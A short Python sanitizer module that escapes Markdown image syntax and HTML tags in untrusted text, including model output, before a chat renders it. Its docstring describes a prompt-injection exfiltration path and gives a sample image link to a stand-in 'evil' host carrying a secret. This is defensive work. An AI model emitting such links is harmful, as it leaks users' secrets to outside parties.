"""Untrusted text (a note, a check-in answer, a transcript, model output) made inert before
the chat renders it as Markdown: no image loads, no raw HTML.

A Markdown image `![x](https://host/p.png)` in a note makes the manager's browser fetch that
URL when the note is cited: a tracking pixel, and the classic exfiltration path once a hosted
model can be prompt-injected into writing `![](https://evil/?q=<secret>)`. The Content-Security-
Policy (img-src 'self' data:) stops the request in the browser; this keeps the text from
asking in the first place, and shows the image syntax as plain text instead.
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[")  # inline and reference images alike start with "!["
_TAG = re.compile(r"<(?=[A-Za-z/!?])")  # the start of an HTML tag, comment or declaration


def inert(text: str) -> str:
    """The text with image syntax and HTML tags escaped, so Markdown shows them literally."""
    return _TAG.sub("&lt;", _IMAGE.sub(r"!\\[", text))
